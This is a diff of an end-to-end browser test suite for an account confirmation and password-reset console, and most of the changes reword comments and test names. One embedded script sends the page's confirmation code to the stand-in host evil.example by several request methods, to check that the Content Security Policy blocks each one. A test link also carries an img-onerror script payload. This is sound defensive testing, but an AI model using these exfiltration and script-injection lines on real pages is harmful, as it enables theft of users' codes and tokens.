@@ -22,7 +22,7 @@ const describeInBrowser = hasBrowser ? describe : describe.skip;
 const linkIn = ({ body }: ReceivedMail) =>
   /href="(http:\/\/localhost:\d+\/\w+\/(?:confirm|reset)#[^"]+)"/.exec(body.html ?? "")?.[1] ?? "";
 
-/** What a mail says, as its reader would copy it. */
+/** The text of a mail, as its reader would copy it. */
 const textOf = (html: string) => {
   const body = html.replace(/<style.*?<\/style>/gs, "").replace(/<[^>]+>/g, " ");
   return body
@@ -36,14 +36,14 @@ const textOf = (html: string) => {
 const statusOf = async (Username: string) =>
   (await cognito.send(new AdminGetUserCommand({ UserPoolId: userPoolId, Username }))).UserStatus;
 
-/** What the page's policy is to refuse, by the name of its directive. */
+/** The directives of the page's policy that must block requests. */
 const refusals = [
   ...["img-src", "script-src-elem", "style-src-elem", "frame-src", "media-src", "object-src"],
   ...["base-uri", "form-action", "connect-src"],
 ];
 
-/** Every way in which a script could ask for an address; answers with what the page's policy refused. */
-const carryAway = `(async () => {
+/** Tries every way in which a script can send a request. @returns the directives that blocked it */
+const tryRequests = `(async () => {
   const refused = [];
   addEventListener("securitypolicyviolation", ({ effectiveDirective }) => refused.push(effectiveDirective));
   const away = "https://evil.example/?" + location.hash.slice(1);
@@ -62,7 +62,7 @@ const carryAway = `(async () => {
   navigator.sendBeacon(away);
   await fetch(away).catch(() => undefined);
   const rest = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));
-  // Each is reported in its own time; half a second later nothing more should come.
+  // Violations are reported one by one; half a second after the last, no more should come.
   for (let tries = 0; tries < 300 && new Set(refused).size < ${refusals.length}; tries += 1) await rest(100);
   await rest(500);
   return refused;
@@ -85,7 +85,7 @@ describeInBrowser("in a browser", () => {
     foreign = watchRequests(page);
     await page.goto(link);
   };
-  /** The console is ready when it knows the app clients: then it shows its first form, whatever was chosen before. */
+  /** The console is ready when it lists the app clients: then it shows its first form. */
   const openConsole = async () => {
     await open(urls.console);
     await page.locator("#client option").first().waitFor({ state: "attached" });
@@ -94,7 +94,7 @@ describeInBrowser("in a browser", () => {
   const message = async (text: string | RegExp) => page.locator("#message", { hasText: text }).waitFor();
 
   describe("the link in a mail", () => {
-    it("changes nothing, however often a mail scanner opens it, until its button is pressed", async () => {
+    it("does nothing until its button is pressed, however often a mail scanner opens it", async () => {
       const email = newAddress();
       await signUp(email);
       const link = linkIn(await mailNumber(email, 1));
@@ -116,7 +116,7 @@ describeInBrowser("in a browser", () => {
       await message(/already confirmed|not valid|expired/);
     });
 
-    it("offers a new mail when the code is old, and takes the new code", async () => {
+    it("offers a new mail if the code is wrong, and accepts the new code", async () => {
       const email = newAddress();
       await signUp(email, { locale: "de" });
       const link = linkIn(await mailNumber(email, 1));
@@ -132,32 +132,32 @@ describeInBrowser("in a browser", () => {
     });
 
     it.each([
-      ["without the rest", "/en/confirm"],
+      ["no fragment", "/en/confirm"],
       ["cut short", `/en/confirm#${clientId}`],
-      ["without its client", "/en/reset"],
-      ["of another product", "/en/confirm#anotherclient/user/123456"],
-      ["with half a character", `/en/confirm#${clientId}/%E0%A4/1`],
-      ["with markup", `/en/reset#${clientId}%3Cimg src=x onerror=alert(1)%3E/a/b`],
-    ])("says so when it came %s", async (_, path) => {
+      ["no fragment, for a reset", "/en/reset"],
+      ["another app client", "/en/confirm#anotherclient/user/123456"],
+      ["an incomplete character", `/en/confirm#${clientId}/%E0%A4/1`],
+      ["markup", `/en/reset#${clientId}%3Cimg src=x onerror=alert(1)%3E/a/b`],
+    ])("rejects an invalid link: %s", async (_, path) => {
       await open(`${urls.console}${path}`);
       await message("This link is incomplete");
       expect(await page.locator("form:visible").count()).toBe(0);
     });
 
-    it.each(["confirm", "reset"])("lets no script carry its code away: %s", async (kind) => {
+    it.each(["confirm", "reset"])("lets no script send its code to another host: %s", async (kind) => {
       await open(`${urls.console}/en/${kind}#${clientId}/user/123456`);
       const stopped: string[] = [];
       page.on("requestfailed", (request) => request.failure()?.errorText === "csp" && stopped.push(request.url()));
-      const blocked = await page.evaluate<string[]>(carryAway);
+      const blocked = await page.evaluate<string[]>(tryRequests);
       expect(new Set(blocked)).toEqual(new Set(refusals));
-      // Playwright is told of a request and of its end one after the other.
+      // Playwright reports a request and its end separately.
       await eventually(async () => (stopped.length >= foreign.length ? true : undefined)).catch(() => undefined);
       expect(stopped.sort()).toEqual(foreign.sort());
       expect(await page.title()).not.toBe("owned");
       expect(new URL(page.url()).hostname).toBe("localhost");
     });
 
-    it("lets a person choose a new password", async () => {
+    it("lets a user choose a new password", async () => {
       const { email } = await signUpConfirmedPerson();
       await cognito.send(new ForgotPasswordCommand({ ClientId: clientId, Username: email }));
       await open(linkIn(await mailNumber(email, 3)));
@@ -180,7 +180,7 @@ describeInBrowser("in a browser", () => {
     });
   });
 
-  it("the link in a notice lets a person begin a new password", async () => {
+  it("the link in a notice lets a user start a password reset", async () => {
     const { email } = await signUpConfirmedPerson();
     await open(`${urls.console}/en/reset#${clientId}`);
     await page.getByLabel("Email address").fill(email);
@@ -194,7 +194,7 @@ describeInBrowser("in a browser", () => {
     expect((await signIn(email, `${password}-again`)).AuthenticationResult?.IdToken).toBeDefined();
   });
 
-  it("the console asks an invited person for a new password, and nobody else", async () => {
+  it("the console asks only an invited user for a new password", async () => {
     const [invited, other] = [newAddress(), newAddress()];
     await openConsole();
     await page.locator("#tab-invite").click();
@@ -211,7 +211,7 @@ describeInBrowser("in a browser", () => {
     expect(await newPassword.getAttribute("required")).toBeNull();
   });
 
-  it("the console shows a person's tokens, profile and mails, and takes a hostile name for text", async () => {
+  it("the console shows a user's tokens, profile and mails, and treats a hostile name as text", async () => {
     const email = newAddress();
     await openConsole();
     await page.locator("#signup [name=email]").fill(email);
